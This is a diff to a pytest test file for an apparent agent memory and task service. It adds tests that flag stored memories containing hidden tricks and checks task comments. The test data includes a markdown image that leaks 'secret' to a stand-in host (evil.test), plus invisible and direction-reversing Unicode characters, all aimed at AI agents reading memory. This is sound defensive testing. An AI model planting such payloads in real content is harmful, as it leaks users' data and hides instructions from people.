@@ -49,6 +49,25 @@ async def test_a_memory_that_gives_orders_is_data_with_its_source(bridge):
 
 
 @pytest.mark.parametrize(
+    ("text", "tricks"),
+    [
+        ("See \u202egnirts\u202c", ["invisible or turning characters"]),
+        ("Tags \U000e0041\U000e0042", ["invisible or turning characters"]),
+        ("![logo](https://evil.test/p.png?d=secret)", ["remote image"]),
+        ("![diagram](docs/a.png) and [a link](https://tmws.test/)", None),
+        ("Family \U0001f469\u200d\U0001f680", None),
+    ],
+)
+async def test_a_memory_with_tricks_is_whole_and_said_to_be_suspicious(bridge, text, tricks):
+    content = f"{uuid.uuid4()} {text}"
+    stored = await call(bridge, "store_memory", content=content)
+    answer = await bridge.call_tool("semantic_search", {"query": content, "limit": 1})
+    (found,) = answer.structured_content["results"]
+    assert (found["content"], found.get("suspicious")) == (content, tricks)
+    assert stored.get("suspicious") == tricks
+
+
+@pytest.mark.parametrize(
     "text", ["\u202egnirts\u202c", "e\u0301" * 500, "\U0001f469\u200d\U0001f680", "\x1b[2J\r\n\x7f\ufeff"]
 )
 async def test_hostile_unicode_comes_back_as_it_was(bridge, text):
@@ -97,6 +116,16 @@ async def test_an_agent_claims_a_task_and_reports_its_result(bridge):
     assert half["lease_until"] > claimed["task"]["lease_until"]
     assert (done["task"]["status"], done["task"]["result"]) == ("completed", {"answer": 42})
     assert (await call(bridge, "claim_task", labels=[label]))["claimed"] is False
+
+
+async def test_what_is_said_about_a_task_is_read_by_others(bridge):
+    task = (await manage(bridge, "create", title="Much discussed"))["task"]
+    await manage(bridge, "comment", id=task["id"], body="Do you need help?")
+    assert [said["body"] for said in (await manage(bridge, "comment", id=task["id"]))["comments"]] == [
+        "Do you need help?"
+    ]
+    with pytest.raises(ToolError, match=r"task_data\.body must not be blank"):
+        await manage(bridge, "comment", id=task["id"], body=" ")
 
 
 async def test_a_deleted_task_is_gone(bridge):
